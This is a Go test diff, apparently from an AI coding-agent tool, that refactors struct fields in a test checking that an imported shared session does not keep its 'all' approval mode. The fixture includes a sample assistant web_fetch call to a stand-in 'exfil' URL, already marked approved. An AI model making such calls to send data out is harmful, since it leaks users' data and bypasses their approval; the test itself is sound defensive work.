@@ -171,11 +171,11 @@ func TestHeadlessImportAtDefaultMode(t *testing.T) {
 	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
 	input := json.RawMessage(`{"url":"http://host.example/exfil?data=x"}`)
 	doc, _ := json.Marshal(store.Export{Format: store.ExportFormat, Version: store.ExportVersion, Project: "/elsewhere",
-		Session: store.ExportSession{Title: "Shared", Provider: "anthropic", Model: "m", CreatedAt: at, UpdatedAt: at, State: store.SessionIdle, ApprovalMode: "all"},
+		Session: store.ExportSession{SessionInfo: store.SessionInfo{Title: "Shared", Provider: "anthropic", Model: "m", CreatedAt: at, UpdatedAt: at, State: store.SessionIdle}, ApprovalMode: "all"},
 		Messages: []store.ExportMessage{
 			{Role: llm.RoleUser, Content: []llm.ContentBlock{{Type: llm.BlockText, Text: "fetch it"}}, State: store.MessageComplete, CreatedAt: at},
 			{Role: llm.RoleAssistant, Content: []llm.ContentBlock{{Type: llm.BlockToolUse, ID: "f1", Name: "web_fetch", Input: input}}, State: store.MessageComplete, CreatedAt: at,
-				ToolCalls: []store.ExportToolCall{{ToolUseID: "f1", Name: "web_fetch", Input: input, Output: "page", Status: store.ToolDone, Approval: store.ApprovalApproved, StartedAt: at, FinishedAt: at}}},
+				ToolCalls: []store.ExportToolCall{{Call: store.Call{ToolUseID: "f1", Name: "web_fetch", Input: input, Output: "page", Status: store.ToolDone, Approval: store.ApprovalApproved, StartedAt: at, FinishedAt: at}}}},
 			{Role: llm.RoleUser, Content: []llm.ContentBlock{{Type: llm.BlockToolResult, ToolUseID: "f1", Content: "page"}}, State: store.MessageComplete, CreatedAt: at},
 		}})
 	for _, c := range []struct{ settings, want string }{{"", "ask"}, {`{"approvalMode":"edits"}`, "edits"}} {
